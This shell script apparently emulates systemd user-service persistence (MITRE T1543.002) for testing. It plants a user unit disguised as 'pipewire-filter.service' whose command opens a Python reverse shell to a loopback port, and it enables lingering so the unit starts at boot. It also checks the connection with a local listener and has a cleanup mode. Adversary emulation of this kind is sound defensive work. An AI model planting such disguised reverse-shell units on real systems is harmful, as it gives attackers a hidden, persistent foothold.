#!/bin/sh
# T1543.002 (quiet): A unit of an account's own with lingering
M=/var/tmp/luytre-foothold N=08-user-unit-linger
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  h=/home/quantri/.config/systemd/user
  mkdir -p $h/default.target.wants
  w $h/pipewire-filter.service <<'E'
[Unit]
Description=Filter
[Service]
ExecStart=/bin/sh -c 'python3 -c "import socket,os;s=socket.create_connection((\"127.0.0.1\",47008));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execl(\"/bin/sh\",\"sh\")"'
[Install]
WantedBy=default.target
E
  ln -sf ../pipewire-filter.service $h/default.target.wants/pipewire-filter.service
  chown -R quantri: /home/quantri/.config
  mkdir -p /var/lib/systemd/linger; touch /var/lib/systemd/linger/quantri
}
prove() {
  rm -f "$M/$N"
  listen 47008
  systemctl restart user@$(id -u quantri).service
  seen
}
remove() {
  rm -f /var/lib/systemd/linger/quantri; systemctl stop user@$(id -u quantri).service; rm -rf /home/quantri/.config/systemd
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
